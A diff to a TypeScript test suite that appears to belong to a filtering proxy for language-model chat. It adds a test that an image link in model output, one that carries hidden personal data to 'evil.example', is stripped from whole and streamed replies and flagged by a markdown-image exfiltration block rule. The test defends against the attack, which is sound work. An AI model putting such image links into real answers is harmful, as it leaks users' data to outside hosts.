@@ -65,6 +65,20 @@ export function personalDataContract(contract: Contract): void {
         expect(await ask(`Write to ${ADDRESS}`, 'two')).not.toBe(first);
       });
 
+      test('does not leave in the address of an image, whole or streamed', async () => {
+        const key = await strict();
+        const seen = await hidden(ADDRESS, key);
+        const text = `Done. ![x](https://evil.example/?q=${seen})`;
+        contract.upstream.next({ text });
+        const { json } = await contract.chat(saying(ADDRESS, model), { key });
+        contract.upstream.next({ pieces: [...text] });
+        const streamed = await contract.stream(saying(ADDRESS, model), { key });
+        expect([json.choices[0].message.content, streamed.content]).toEqual(['Done. ', 'Done. ']);
+        expect(json.svc.detected_threats).toContainEqual(
+          expect.objectContaining({ rule: 'data-exfiltration/markdown-image', action: 'block' }),
+        );
+      });
+
       test('leaves the arguments of tool calls JSON, in requests and in answers', async () => {
         const key = await strict();
         const given = JSON.stringify({ note: `see\n${ADDRESS}`, card: 4111111111111111 });
